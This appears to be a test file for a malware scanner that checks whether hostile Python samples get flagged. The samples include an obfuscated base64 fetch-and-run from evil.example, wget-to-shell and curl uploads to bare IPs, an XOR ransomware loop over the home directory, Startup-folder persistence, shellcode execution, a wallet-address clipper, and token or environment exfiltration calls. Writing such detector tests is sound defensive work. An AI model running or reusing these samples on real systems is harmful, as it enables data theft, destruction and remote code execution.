/**
 * Whole hostile programs, written in shapes the rule fixtures do not spell out (a name hidden in a
 * conditional, a lambda that imports, a walk that deletes file by file): each must reach at least
 * the severity that blocks or asks before running. Fails if any resolution or rule they rely on breaks.
 */
import { before, test } from 'node:test';
import assert from 'node:assert/strict';
import { createAnalyzer, type Analyzer } from '../../src/scan/engine/analyzer.js';
import type { Severity } from '../../src/scan/types.js';

let analyzer: Analyzer;
before(async () => {
  analyzer = await createAnalyzer();
});

const RANK: Record<Severity, number> = { low: 0, medium: 1, high: 2, critical: 3 };

const PROGRAMS: { name: string; least: Severity; rule: string; source: string }[] = [
  {
    name: 'exec reached through a conditional over two spellings of a builtin',
    least: 'critical',
    rule: 'encoded-payload-exec',
    source: `import base64
payload = "aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2N1cmwgLXMgaHR0cDovL2V2aWwuZXhhbXBsZS9zLnNoIHwgc2gnKQ=="
runner = getattr(__builtins__, "exec") if hasattr(__builtins__, "exec") else __builtins__["ex" + "ec"]
runner(base64.b64decode(payload))
`,
  },
  {
    name: 'os.system from an import of character codes and a hex attribute name, uploading a file',
    least: 'high',
    rule: 'malicious-command',
    source: `import importlib
m = importlib.import_module("".join(map(chr, [111, 115])))
f = getattr(m, bytes.fromhex("73797374656d").decode())
f("id > /tmp/.x; curl -d @/tmp/.x http://203.0.113.5/")
`,
  },
  {
    name: 'a fetch-and-run command through a self-applying lambda',
    least: 'high',
    rule: 'malicious-command',
    source: `lam = (lambda _: _(_))(lambda __: __import__('os'))
getattr(lam, 'popen')('wget -qO- http://198.51.100.2/a|sh').read()
`,
  },
  {
    name: 'ransomware: every file under home rewritten and removed',
    least: 'high',
    rule: 'destructive-file-ops',
    source: `import os, glob
home = os.path.expanduser("~")
for p in glob.glob(os.path.join(home, "**", "*"), recursive=True):
    if os.path.isfile(p):
        with open(p, "rb") as f: data = f.read()
        with open(p + ".locked", "wb") as f: f.write(bytes(b ^ 0x5A for b in data))
        os.remove(p)
`,
  },
  {
    name: 'a copy of itself in the Windows Startup folder',
    least: 'high',
    rule: 'persistence',
    source: `import shutil, os, sys
target = os.path.join(os.environ["APPDATA"], "Microsoft", "Windows", "Start Menu", "Programs", "Startup", "updater.pyw")
shutil.copy(sys.argv[0], target)
`,
  },
  {
    name: 'shellcode made executable with libc mprotect',
    least: 'high',
    rule: 'native-code',
    source: `import ctypes
libc = ctypes.CDLL(None)
buf = ctypes.create_string_buffer(b"\\x90" * 64)
mprotect = libc.mprotect
mprotect(ctypes.c_void_p(ctypes.addressof(buf) & ~0xfff), 4096, 7)
ctypes.cast(buf, ctypes.CFUNCTYPE(None))()
`,
  },
  {
    name: 'a clipper swapping wallet addresses',
    least: 'high',
    rule: 'keylogger-clipboard',
    source: `import pyperclip, re, time
while True:
    if re.match(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$", pyperclip.paste()):
        pyperclip.copy("bc1qexampleexampleexampleexampleexample")
    time.sleep(0.5)
`,
  },
];

for (const program of PROGRAMS) {
  test(`${program.name}: ${program.rule} at ${program.least} or above`, () => {
    const { findings } = analyzer.analyze('program.py', Buffer.from(program.source));
    const worst = Math.max(-1, ...findings.filter((f) => f.ruleId === program.rule).map((f) => RANK[f.severity]));
    assert.ok(worst >= RANK[program.least], `${program.rule} reached ${worst < 0 ? 'nothing' : Object.keys(RANK)[worst]}; findings: ${findings.map((f) => `${f.severity} ${f.ruleId}`).join(', ') || 'none'}`);
  });
}

test('their benign look-alikes stay below high', () => {
  const benign = `import os, glob, shutil, pyperclip
for old in glob.glob(os.path.join("build", "**", "*.o"), recursive=True):
    os.remove(old)
for top, dirs, names in os.walk(os.path.expanduser("~/.cache/myapp")):
    for name in names:
        os.remove(os.path.join(top, name))
cwd = getattr(os, "getcwd")()
pyperclip.copy(cwd)
print("to install: curl -fsSL https://get.example.invalid/i.sh | bash")
`;
  const { findings } = analyzer.analyze('tidy.py', Buffer.from(benign));
  assert.deepEqual(findings.filter((f) => RANK[f.severity] >= RANK.high).map((f) => `${f.line} ${f.ruleId}`), []);
});

test('a token in an API call’s headers is medium; the same token as cargo, to a bare IP, or the whole environment as headers is high', () => {
  const severity = (call: string): string | undefined =>
    analyzer.analyze('api.py', Buffer.from(`import os, requests\ntoken = os.environ["GITHUB_TOKEN"]\n${call}\n`)).findings.find((f) => f.ruleId === 'exfiltration')?.severity;
  assert.equal(severity('requests.get("https://api.github.com/user", headers={"Authorization": f"Bearer {token}"}, timeout=5)'), 'medium');
  assert.equal(severity('requests.get("https://api.github.com/user", params={"t": token}, timeout=5)'), 'high');
  assert.equal(severity('requests.get("http://203.0.113.9/user", headers={"Authorization": token}, timeout=5)'), 'high');
  assert.equal(severity('requests.post("https://collector.example.invalid/", headers=dict(os.environ), timeout=5)'), 'high');
});
